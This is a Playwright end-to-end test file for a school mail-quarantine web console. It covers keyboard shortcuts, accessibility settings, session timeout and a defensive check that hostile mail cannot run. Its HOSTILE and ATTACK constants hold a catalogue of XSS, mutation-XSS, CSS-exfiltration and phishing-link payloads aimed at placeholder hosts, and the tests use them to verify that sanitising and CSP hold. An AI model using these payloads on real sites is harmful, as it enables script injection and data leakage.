"""The console in a real browser: the keyboard alone, hostile mail, and what outlives a moment."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser as Chromium
from playwright.sync_api import expect
from support.browser import Watched, violations
from support.console import PASSWORD, Desk, safeguarding, school_week, served
from support.quarantine import MESSAGE, held

from gatepost_quarantine.audit import Verb
from gatepost_quarantine.held import HeldMessage, State

pytestmark = [pytest.mark.slow, pytest.mark.e2e]

PICTURE_LIMIT = 300_000


@pytest.fixture
def window(desk: Desk, chromium: Chromium) -> Iterator[Watched]:
    """A window of a browser at a running console."""
    with served(desk.app) as url:
        context = chromium.new_context(viewport={"width": 1280, "height": 800})
        yield Watched(context, url)
        context.close()


def test_from_sign_in_to_release_by_keyboard_only(desk: Desk, window: Watched) -> None:
    """j moves, Enter opens, r releases, Esc returns to the same row; no mouse is near."""
    kept = [
        each for each in school_week(desk, count=5) if desk.store.get(each.id).recipients[0].state is State.HELD
    ]
    oldest_first = sorted(kept, key=lambda each: each.received_at)
    window.sign_in("rita")
    page = window.page
    keys = page.keyboard
    keys.press("j")
    keys.press("j")
    assert page.evaluate("document.activeElement.closest('tr').id") == f"row-{oldest_first[1].id}"
    keys.press("Enter")
    page.wait_for_url(f"**/held/{oldest_first[1].id}")
    keys.press("Escape")
    page.wait_for_url(re.compile(r"/queue#row-"))
    expect(page.locator(f"#row-{oldest_first[1].id} .open")).to_be_focused()
    keys.press("Enter")
    page.wait_for_url("**/held/**")
    keys.press("r")
    page.wait_for_url("**/act?**")
    expect(page.get_by_role("button", name="Release")).to_be_focused()
    keys.press("Enter")
    page.wait_for_url("**/held/**done=**")
    assert "Released to" in page.inner_text("[role=status]")
    assert desk.store.get(oldest_first[1].id).recipients[0].state is State.RELEASING

    page.goto(window.url + "/queue")
    keys.press("j")
    keys.press("x")
    keys.press("j")
    keys.press("x")
    assert page.inner_text("[data-count]") == "2"
    keys.press("d")
    page.wait_for_url("**/act?**")
    expect(page.locator("textarea[name=reason]")).to_be_focused()
    keys.type("Not for us")
    keys.press("Tab")
    keys.press("Tab")
    keys.press("Tab")
    keys.press("Enter")
    expect(page.get_by_role("heading", name="Deny: 2 of 2 done")).to_be_visible()
    assert window.outside() == []
    assert window.errors == []


def test_keys_can_be_switched_off_and_never_act_while_typing(desk: Desk, window: Watched) -> None:
    """Speech input and screen readers send single letters, too (WCAG 2.1.4)."""
    school_week(desk, count=2)
    window.sign_in("rita")
    page = window.page
    page.keyboard.press("/")
    page.keyboard.type("jx?r")
    assert page.input_value("#search") == "jx?r"
    page.keyboard.press("Escape")
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.get_by_label("Use single-key shortcuts").uncheck()
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    assert page.evaluate("document.activeElement.closest('tr')") is None


HOSTILE = (
    "<script>alert('ran')</script><img src=https://track.example/1.png onerror=\"alert('ran')\">"
    "<svg onload=\"alert('ran')\"><animate onbegin=alert('ran') attributeName=x dur=1s></svg>"
    "<style>body{background:url(https://track.example/css)}@import 'https://track.example/i.css';"
    "input[value^=a]{background:url(https://track.example/a)}</style>"
    "<link rel=stylesheet href=https://track.example/x.css><link rel=prefetch href=https://track.example/p>"
    "<iframe srcdoc=\"<script>parent.alert('ran')</script>\"></iframe><base href=https://track.example/>"
    "<form action=https://track.example/f><input name=a autofocus onfocus=\"alert('ran')\"></form>"
    "<a href=\"javascript:alert('ran')\">click</a><a href='https://evil.example/x'>https://bank.example/login</a>"
    "<meta http-equiv=refresh content='0;url=https://track.example/m'><video src=https://track.example/v autoplay>"
    "<object data=https://track.example/o></object><embed src=https://track.example/e>"
    "<noscript><p title=\"</noscript><img src=x onerror=alert('ran')>\"></noscript>"
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('ran')&gt;\">"
    "</mglyph></table></mtext></math><svg></p><style><a id=\"</style><img src=1 onerror=alert('ran')>\">"
    '<div style="background:url(https://track.example/s);position:fixed;inset:0">over everything</div>'
    "<details open ontoggle=alert('ran')>x</details><p>End of it</p>"
)

ATTACKS_RUN = "<script>alert('ran')</script>"
ATTACK = "\"><script>alert('ran')</script><img src=https://track.example/h onerror=alert('ran')>"


def _hostile() -> tuple[HeldMessage, bytes]:
    """A message with an attack in every place that a page shows."""
    content = (
        f"From: {ATTACK} <a@b.example>\r\nTo: {ATTACK} <c@d.example>\r\nSubject: {ATTACK}\r\nX-{ATTACK}: x\r\n"
        f"X-Attack: {ATTACK}\r\nMessage-ID: <{ATTACK}@x>\r\n"
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
        f"{ATTACK}\r\n--b\r\nContent-Type: text/html\r\n\r\n{HOSTILE}\r\n--b\r\n"
        f'Content-Type: image/svg+xml; name="{ATTACK.replace(chr(34), "")}.svg"\r\n\r\n'
        "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('ran')\"/>\r\n--b--\r\n"
    ).encode()
    message = held(
        content,
        subject=ATTACK,
        from_header=f"{ATTACK} <a@b.example>",
        message_id=f"<{ATTACK}@x>",
        attachments=(
            {"name": ATTACK, "path": ATTACK, "claimed": ATTACK, "detected": ATTACK, "classes": [ATTACK]},
        ),
    )
    return message, content


def test_hostile_mail_lies_still(desk: Desk, window: Watched) -> None:
    """Script, styles, frames, forms and mutations in every place: nothing runs, and no request leaves."""
    message, content = _hostile()
    desk.keep(message, content)
    window.sign_in("rita")
    page = window.go("/queue")
    window.go(f"/held/{message.id}")
    page.click("#open-body")
    page.wait_for_selector("pre.mail")
    for summary in page.locator("main details > summary").all():
        summary.click()
    frame = page.frame_locator("iframe").last
    expect(frame.get_by_text("End of it")).to_be_visible()
    assert "[evil.example]" in frame.locator("body").inner_text()
    assert (
        frame.locator("a, img, script, svg, style ~ style, form, iframe, input, link, meta[http-equiv]").count()
        == 0
    )
    frame.get_by_text("click").click()
    box = frame.get_by_text("over everything").bounding_box()
    assert box is not None
    assert box["height"] < 100
    window.go(f"/held/{message.id}/raw")
    window.go(f"/held/{message.id}/html/1")
    expect(page.get_by_text("End of it")).to_be_visible()
    window.go(f"/act?verb=deny&id={message.id}")
    window.go("/overview")
    assert window.dialogues == []
    assert window.outside() == []
    refused = [each for each in window.errors if "Content Security Policy" in each or "Refused" in each]
    assert refused == [], "the cleaning should leave nothing for the policy to stop"


def test_the_frame_would_stop_a_script_that_got_through_the_cleaning(
    desk: Desk, window: Watched, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second wall is tried without the first: uncleaned HTML in the frame still does nothing."""
    message, content = _hostile()
    desk.keep(message, content)
    from gatepost_quarantine.console import preview

    def uncleaned(self: preview.Reader, content: Iterator[bytes]) -> preview.Preview:
        b"".join(content)
        text = preview.Text(where="part 1", html=True, text="x", clean=HOSTILE, cut=False)
        return preview.Preview(headers=(), texts=(text,), files=(), parts=(), defects=())

    monkeypatch.setattr(preview.Reader, "preview", uncleaned)
    window.sign_in("rita")
    page = window.go(f"/held/{message.id}")
    page.click("#open-body")
    with page.expect_response(f"**/held/{message.id}/html/0") as shown:
        page.click("details.formatted summary")
    assert ATTACKS_RUN in shown.value.text()
    page.wait_for_load_state("networkidle")
    assert window.dialogues == []
    assert window.outside() == []


def test_a_page_learns_of_new_messages_and_keeps_its_place(desk: Desk, window: Watched) -> None:
    """Ticks and focus stay; what a colleague decided shows in its row."""
    kept = school_week(desk, count=4)
    window.sign_in("rita")
    page = window.page
    page.keyboard.press("j")
    page.keyboard.press("x")
    focused = page.evaluate("document.activeElement.closest('tr').id")
    desk.store.deny(kept[0].id, actor="colleague")
    desk.keep(held(MESSAGE, received_at=desk.clock()))
    page.evaluate("htmx.trigger('#shown', 'refresh')")
    expect(page.locator("#news")).to_contain_text("1 new message")
    expect(page.locator(f"#state-{kept[0].id}")).to_contain_text("Denied")
    assert page.evaluate("document.activeElement.closest('tr').id") == focused
    assert page.inner_text("[data-count]") == "1"


def test_a_confidential_message_is_opened_by_safeguarding_and_recorded(desk: Desk, window: Watched) -> None:
    """The safeguarding lead's way, in the browser."""
    message = desk.keep(safeguarding())
    window.sign_in("sam")
    page = window.page
    page.get_by_role("link", name="Concern about a pupil").click()
    expect(page.locator(".state.confidential")).to_have_text("Confidential")
    page.click("#open-body")
    expect(page.locator("pre.mail")).to_contain_text("Please open the attached program.")
    assert [each.verb for each in desk.store.events(message.id)] == [Verb.HOLD, Verb.READ]


def test_ticks_are_kept_over_pages_until_they_are_decided_about(desk: Desk, window: Watched) -> None:
    """One decision about messages of two pages; afterwards nothing is ticked."""
    for place in range(52):
        desk.keep(held(str(place).encode()), str(place).encode())
    window.sign_in("rita")
    page = window.page
    page.keyboard.press("j")
    page.keyboard.press("x")
    page.get_by_role("link", name="Next page").click()
    expect(page.locator(".chosen")).to_have_text("1 ticked (1 on other pages)")
    page.keyboard.press("j")
    page.keyboard.press("x")
    page.keyboard.press("d")
    expect(page.get_by_role("heading", name="Deny 2 messages")).to_be_visible()
    page.keyboard.type("Not for us")
    page.get_by_role("button", name="Deny 2 messages").click()
    expect(page.get_by_role("heading", name="Deny: 2 of 2 done")).to_be_visible()
    window.go("/queue")
    expect(page.locator(".chosen")).to_have_text("0 ticked")
    assert window.errors == []


def test_the_end_of_a_sign_in_is_told_and_what_was_typed_outlives_it(tmp_path: Path, chromium: Chromium) -> None:
    """One key makes it longer. If nobody is there, the note is still there after the next sign-in."""
    desk = Desk(tmp_path, idle_minutes=1)
    desk.people()
    message = desk.keep(held())
    with served(desk.app) as url:
        window = Watched(chromium.new_context(), url)
        window.sign_in("rita")
        page = window.go(f"/held/{message.id}")
        dialogue = page.get_by_role("alertdialog", name="Are you still there?")
        expect(dialogue).to_be_visible()
        assert violations(page, "the end of a sign-in") == []
        with page.expect_response("**/session") as answer:
            page.keyboard.press("Enter")
        assert answer.value.request.method == "POST"
        expect(dialogue).to_be_hidden()
        page.get_by_label("Note for your colleagues").fill("The parent has rung twice")
        page.context.clear_cookies()
        page.get_by_role("button", name="Keep the note").click()
        page.get_by_role("link", name="Sign in").click()
        page.locator("input[name=name]").fill("rita")
        page.locator("input[name=password]").fill(PASSWORD)
        page.keyboard.press("Enter")
        page.wait_for_url(f"**/held/{message.id}")
        expect(dialogue).to_be_visible()
        page.keyboard.press("Escape")
        expect(page.get_by_label("Note for your colleagues")).to_have_value("The parent has rung twice")
        page.get_by_role("button", name="Keep the note").click()
        page.wait_for_url("**done=**")
        expect(page.locator(".history")).to_contain_text("The parent has rung twice")
        window.go(f"/held/{message.id}")
        expect(page.get_by_label("Note for your colleagues")).to_have_value("")
        page.context.close()
    desk.store.close()


def test_the_picture_of_the_front_page_is_of_today(
    desk: Desk, chromium: Chromium, root: Path, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    """quarantine/console.png shows a real page; ``--rewrite-golden`` takes it anew."""
    kept = school_week(desk)
    where = root / "quarantine" / "console.png"
    target = where if request.config.getoption("--rewrite-golden") else tmp_path / "console.png"
    with served(desk.app) as url:
        context = chromium.new_context(viewport={"width": 1280, "height": 800}, color_scheme="light")
        window = Watched(context, url)
        window.sign_in("rita")
        page = window.page
        page.keyboard.press("j")
        page.keyboard.press("x")
        page.screenshot(path=target)
        assert page.locator("tbody tr").count() == len(kept) - 4
        context.close()
    assert target.read_bytes().startswith(b"\x89PNG")
    assert 20_000 < where.stat().st_size < PICTURE_LIMIT
